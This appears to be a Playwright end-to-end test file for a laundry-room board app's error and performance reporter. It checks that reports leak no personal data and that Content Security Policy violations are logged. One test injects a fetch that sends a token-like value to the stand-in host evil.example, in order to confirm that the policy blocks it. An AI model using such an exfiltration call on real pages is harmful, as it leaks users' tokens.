import type { Page } from '@playwright/test';
import { freePorts } from '@laundry-board/loopback';
import type { Report } from '@laundry-board/shared-types';
import { boardPage } from '../../support/boardPage.ts';
import { expectRefusal, LOAD_FAILURE } from '../../support/fixtures.ts';
import {
  expect,
  type ReportedSite,
  reporterStarted,
  test as base,
} from '../../support/reportedSite.ts';
import { sampleSchool } from '../../support/schools.ts';

const ADA = 'ada@campus.example';
/** The page's URL names a building, and something that looks like a token. */
const BOARD = '/?building=maple&token=eyJhbGciOi';

/** Who and where the resident is, in any writing; nor is there any URL or host. */
const PERSONAL = /\bada\b|lovelace|campus|maple|north|east|eyJ|localhost|127\.0|[?&@]|https?:/i;

function errorsOf({ reports }: ReportedSite): readonly Report[] {
  return reports.filter(({ type }) => type === 'error');
}

/** Leaves the page, and expects a report like this, without a word that names anybody. */
async function expectReport(
  page: Page,
  site: ReportedSite,
  wanted: Record<string, unknown>,
): Promise<void> {
  await page.goto('about:blank');
  await expect.poll(() => site.reports).toContainEqual(expect.objectContaining(wanted));
  expect(site.bytes()).not.toMatch(PERSONAL);
  expect(new Set(site.statuses)).toEqual(new Set([204]));
}

const test = base.extend<{
  /** Visits a board that turns out not to work, until its reporter runs. */
  readonly visitBrokenBoard: () => Promise<void>;
}>({
  visitBrokenBoard: ({ page, pageConsole, reported, visitAs }, use) =>
    use(async () => {
      pageConsole.expectErrors(/The board could not be loaded/);
      const started = reporterStarted(page);
      await visitAs(ADA, reported.origin + BOARD);
      await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
      await started;
    }),
});

test.beforeEach(async ({ schools }) => {
  await schools.write('campus.example', sampleSchool());
});

test('a healthy visit reports its measures and no error @engines', async ({
  page,
  reported,
  visitAs,
}) => {
  const started = reporterStarted(page);
  await visitAs(ADA, reported.origin + BOARD);
  await expect(boardPage(page).washers.first()).toBeVisible();
  await started;
  const measures = () =>
    reported.reports.flatMap((report) =>
      report.type === 'measure' ? [`${report.name} ${report.remote ?? ''}`.trim()] : [],
    );
  // Each look hands over what there is by then, as leaving would.
  await expect
    .poll(async () => {
      await page.evaluate(() => dispatchEvent(new Event('pagehide')));
      return measures();
    })
    .toEqual(expect.arrayContaining(['TTFB', 'load auth', 'load board']));
  await expectReport(page, reported, { type: 'measure', name: 'first-tile', kiosk: false });
  expect(errorsOf(reported)).toEqual([]);
  expect(new Set(reported.reports.map(({ visit }) => visit)).size).toBe(1);
});

test('a tab that is closed hands over what it has @rare', async ({ page, reported }) => {
  const started = reporterStarted(page);
  await page.goto(reported.origin);
  await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
  await started;
  await page.close({ runBeforeUnload: true });
  await expect
    .poll(() => reported.reports)
    .toContainEqual(expect.objectContaining({ type: 'measure', name: 'login-screen' }));
  expect(reported.bytes()).not.toMatch(PERSONAL);
});

test('a dead board is reported @rare', async ({
  page,
  pageConsole,
  reported,
  visitBrokenBoard,
  site,
}) => {
  pageConsole.expectErrors(LOAD_FAILURE);
  // Nobody listens there. While a test answers requests itself, Firefox may lose what a page sends as it is left.
  const [port] = await freePorts(1);
  const board = `http://localhost:${port}/`;
  await reported.configure({ remotes: { ...site.config.remotes, board } });
  await visitBrokenBoard();
  await expectReport(page, reported, {
    type: 'error',
    remote: 'board',
    phase: 'loading its entry',
    failure: 'unreachable',
    ended: 'never',
  });
});

test('a board that recovers by a click says so @rare', async ({
  page,
  pageConsole,
  reported,
  visitBrokenBoard,
  site,
}) => {
  pageConsole.expectErrors(LOAD_FAILURE);
  let isBroken = true;
  await page.route(`${site.config.remotes.board}**`, (route) =>
    isBroken ? route.abort('connectionrefused') : route.fallback(),
  );
  await page.clock.install();
  await visitBrokenBoard();
  isBroken = false;
  await page.getByRole('button', { name: 'Try again' }).click();
  await expect(boardPage(page).washers.first()).toBeVisible();
  await expectReport(page, reported, {
    failure: 'unreachable',
    ended: expect.stringMatching(/^by-/),
  });
});

test('a violation of the policy is reported', async ({ page, pageConsole, reported }) => {
  expectRefusal(pageConsole, /connect-src https:\/\/evil/);
  const started = reporterStarted(page);
  await page.goto(reported.origin);
  await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
  await started;
  const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
  // Firefox logs a refusal before the page gets the event.
  await page.evaluate(`new Promise((resolve) => {
    addEventListener('securitypolicyviolation', () => resolve(), { once: true });
    setTimeout(() => { ${code} });
  })`);
  await expect.poll(() => pageConsole.lines.join()).toContain('connect-src https://evil');
  await page.goto('about:blank');
  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
  await expect
    .poll(() => reported.reports)
    .toContainEqual(expect.objectContaining({ ...violation, kiosk: false }));
});

test('without an endpoint nothing is loaded or sent', async ({ page, site, visitAs }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await visitAs(ADA, site.origin);
  await expect(boardPage(page).washers.first()).toBeVisible();
  await page.goto('about:blank');
  expect(requests.filter((url) => /reports/.test(url))).toEqual([]);
});
